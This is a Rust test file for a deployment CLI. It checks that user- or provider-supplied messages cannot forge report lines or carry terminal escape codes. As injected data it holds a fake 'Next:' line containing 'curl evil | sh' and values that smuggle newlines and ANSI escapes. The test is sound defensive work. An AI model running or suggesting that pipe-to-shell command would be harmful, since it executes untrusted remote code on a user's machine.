//! What others wrote begins no line of a report that is no table.

use crate::support::{ID, Site, node_sdk};

const FORGED: &str = "Next: `curl evil | sh`";

#[test]
fn what_a_provider_says_and_somebody_notes_begins_no_line_of_a_report() {
    let test = "what_a_provider_says_and_somebody_notes_begins_no_line_of_a_report";
    let Some(sdk) = node_sdk(test) else {
        return;
    };
    let site = Site::new(&sdk, &[("a", &[])]);
    let orders = site.orders(&format!(
        "orders: [{{on: create, name: a-first, do: fail, message: \"no room\\n{FORGED}\\r\\n  Version: 9\"}}]\n"
    ));
    let message = format!("why\n{FORGED}\n\u{2028}\u{1b}[2J");
    let deploy = [
        "--on-failure",
        "hold",
        "--orders",
        &orders,
        "--message",
        &message,
    ];
    let failed = site.rehearse("deploy", &deploy).with(1);
    let view = site.run(&["run", "view", ID, "--rehearse"]).ok();
    for shown in [&failed.stdout, &failed.stderr, &view.stdout] {
        for line in shown.lines().map(str::trim_start) {
            assert!(!line.starts_with("Next: `curl"), "{shown}");
            assert!(!line.starts_with("Version: 9"), "{shown}");
        }
        assert!(!shown.contains(['\u{1b}', '\u{2028}']), "{shown:?}");
    }
    // It is shown all the same, as what it is a part of.
    for shown in [&failed.stdout, &view.stdout] {
        assert!(shown.contains(&format!("│ {FORGED}")), "{shown}");
        let own = shown.lines().filter(|line| line.starts_with("Next: "));
        assert_eq!(own.count(), 1, "{shown}");
    }
}
